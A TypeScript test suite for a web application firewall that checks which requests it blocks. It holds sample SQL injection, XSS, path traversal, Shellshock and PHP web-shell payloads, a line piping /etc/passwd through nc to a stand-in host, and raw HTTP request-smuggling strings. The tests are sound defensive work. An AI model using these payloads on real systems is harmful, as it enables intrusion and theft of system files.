/** Attacks and honest requests, at each level of the rule set: what is blocked, and what passes. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { connect } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { WafMatch } from '@meshwork/contract';
import { type GatewayScene, gatewayScene, type Service } from '../../../../test/gateway-scene.ts';
import { ingressOf, routeOf } from '../../../../test/ingress-section.ts';
import { until } from '../../../../test/namespaces.ts';
import { policyOf, wafId } from '../../../../test/waf-section.ts';

interface Asked {
  readonly path?: string;
  readonly method?: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
}

const WWW = 'www-1.example.com';
const BROWSER = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64)', accept: 'text/html,*/*' };
const post = (type: string, body: string): Asked => ({ method: 'POST', headers: { 'content-type': type }, body });
const json = (value: unknown) => post('application/json', JSON.stringify(value));
const form = (body: string) => post('application/x-www-form-urlencoded', body);
const inQuery = (text: string): Asked => ({ path: `/?q=${encodeURIComponent(text)}` });
const multipart = (name: string, content: string, more = '') =>
  post(
    'multipart/form-data; boundary=XX',
    `--XX\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: text/plain\r\n\r\n${content}\r\n${more}--XX--\r\n`,
  );

const ATTACKS: Readonly<Record<string, Asked>> = {
  'SQL in a query': inQuery("1' or '1'='1"),
  'SQL with union': inQuery('-1 union select username, password from users--'),
  'SQL in a form': form(`id=${encodeURIComponent("1' and sleep(5)-- -")}`),
  'SQL in JSON': json({ filter: { id: "1' or '1'='1" } }),
  'SQL in a list in JSON': json([['x', "1' or '1'='1"]]),
  'SQL in a cookie': { headers: { cookie: `id=${encodeURIComponent("1' or '1'='1")}` } },
  'XSS in a query': inQuery('<script>alert(document.cookie)</script>'),
  'XSS encoded twice': { path: '/?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E' },
  'XSS in an attribute': inQuery('"><img src=x onerror=alert(1)>'),
  'XSS in text': post('text/plain', '<script>alert(1)</script>'),
  'XSS without a type': { method: 'POST', body: '<script>alert(1)</script>' },
  'XSS in XML': post('application/xml', '<a><![CDATA[<script>alert(1)</script>]]></a>'),
  'XSS in JSON by another name': post('application/vnd.api+json; charset=utf-8', '{"a":"<script>alert(1)</script>"}'),
  'XSS in the name of an argument': { path: `/?${encodeURIComponent('<script>alert(1)</script>')}=1` },
  'a path outside': { path: '/download?file=../../../../etc/passwd' },
  'a path outside, encoded': { path: '/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd' },
  'a file of the system': inQuery('/etc/shadow'),
  'a command': inQuery('; cat /etc/passwd | nc 192.0.2.1 80'),
  'a command in a header': { headers: { 'user-agent': '() { :; }; /bin/bash -c "id"' } },
  PHP: inQuery('<?php system($_GET["c"]); ?>'),
  'a scanner': { headers: { 'user-agent': 'sqlmap/1.7' } },
  'JSON that is none': post('application/json', '{"a": '),
  'an encoded body': {
    ...form('a=b'),
    headers: { 'content-type': 'application/x-www-form-urlencoded', 'content-encoding': 'gzip' },
  },
  'a part without an end': post(
    'multipart/form-data; boundary=XX',
    '--XX\r\nContent-Disposition: form-data; name="a"\r\n\r\n<script>alert(1)</script>',
  ),
  'a file that says what it is not': multipart('a.php', '<?php system($_GET["c"]); ?>'),
};

const HONEST: Readonly<Record<string, Asked>> = {
  'a page': { path: '/articles/2026/how-to-choose-a-select-box?page=2&sort=-created' },
  'a search': { path: '/search?q=union%20square%20hotels%20and%20restaurants' },
  'JSON of an API': json({ user: { name: 'Zoë Ångström', tags: ['a', 'b'], age: 42, active: true, note: null } }),
  GraphQL: json({ query: 'query Teams { teams(first: 10) { name members { name } } }' }),
  'a form': form('name=Anna+Maria&email=anna%40example.com&comment=I+like+it'),
  'an upload': multipart('report.txt', 'Figures of the third quarter are up by 4 percent.'),
  'a token': { headers: { authorization: 'Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln' } },
  PUT: { ...json({ title: 'A title' }), method: 'PUT' },
  DELETE: { path: '/items/7', method: 'DELETE' },
  XML: post('application/xml', '<order><item id="1">Tea</item></order>'),
};
/** With the same rules as attacks: what a policy needs exclusions for. */
const LOOKS_LIKE_AN_ATTACK: Readonly<Record<string, Asked>> = {
  'GraphQL with variables': json({ query: 'query Node($id: ID!) { node(id: $id) { id name } }' }),
  'Markdown with code': json({ text: '# Title\n\n```html\n<script>alert("hello")</script>\n```' }),
};

describe('the rule set', { timeout: 120_000 }, () => {
  let scene: GatewayScene;
  let web: Service;
  before(async () => {
    scene = await gatewayScene();
    web = await scene.service('web');
  });
  after(() => scene[Symbol.asyncDispose]());

  const serve = (over = {}) => {
    const routes = [routeOf({ targets: [web.target(1)], waf: wafId(1) })];
    return scene.server.serve({ section: [ingressOf(1, { routes })], ca: undefined, policies: [policyOf(1, over)] });
  };
  const statuses = async (corpus: Readonly<Record<string, Asked>>, not: number) => {
    const other: string[] = [];
    for (const [name, asked] of Object.entries(corpus)) {
      const { status } = await scene.ask(WWW, { ...asked, headers: { ...BROWSER, ...asked.headers } });
      if (status !== not) other.push(`${name}: ${status}`);
    }
    return other;
  };

  for (const level of [1, 2, 3, 4]) {
    it(`blocks attacks at level ${level}, and passes all of them in the mode detect`, async () => {
      await serve({ paranoia: { block: level, detect: level } });
      assert.deepEqual(await statuses(ATTACKS, 403), []);
      assert.deepEqual(await statuses(LOOKS_LIKE_AN_ATTACK, 403), []);
      if (level === 1) assert.deepEqual(await statuses(HONEST, 200), []);
      await serve({ mode: 'detect', paranoia: { block: level, detect: level } });
      assert.deepEqual(await statuses({ ...ATTACKS, ...HONEST }, 200), []);
    });
  }

  it('looks with higher levels than it blocks by', async () => {
    await serve({ paranoia: { block: 1, detect: 4 } });
    assert.deepEqual(await statuses(HONEST, 200), []);
    let above: readonly WafMatch[] = [];
    await until('matches above the level that blocks', async () => {
      await scene.waf.read();
      const observed = scene.waf.observed() ?? {};
      const events = (observed.events ?? []).filter(({ verdict }) => verdict === 'scored');
      above = events.flatMap(({ matches }) => matches).filter(({ paranoia }) => paranoia > 1);
      await scene.waf.reported(observed);
      return above.length > 0;
    });
    assert.ok(above.every(({ counts }) => !counts));
  });

  it('gives a smuggled request no way around', async () => {
    await serve();
    const requests = [
      `POST / HTTP/1.1\r\nHost: ${WWW}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: ${WWW}\r\n\r\n`,
      `POST / HTTP/1.1\r\nHost: ${WWW}\r\nContent-Length: 4\r\nContent-Length: 40\r\n\r\n1234GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n`,
      `POST / HTTP/1.1\r\nHost: ${WWW}\r\nTransfer-Encoding: xchunked\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n`,
      `POST / HTTP/1.1\r\nHost: ${WWW}\r\nContent-Type: application/json\r\nContent-Type: text/plain\r\nContent-Length: 3\r\nConnection: close\r\n\r\n"a"`,
    ];
    for (const text of requests) {
      const socket = connect(scene.http_port, '127.0.0.1');
      let answer = '';
      socket.setEncoding('latin1').on('data', (piece: string) => {
        answer += piece;
      });
      socket.end(text);
      await once(socket, 'close');
      assert.match(answer, /^HTTP\/1\.1 (?:400|403|501)/, text);
    }
    assert.equal(web.requests.filter(({ url }) => url === '/smuggled').length, 0);
  });
});
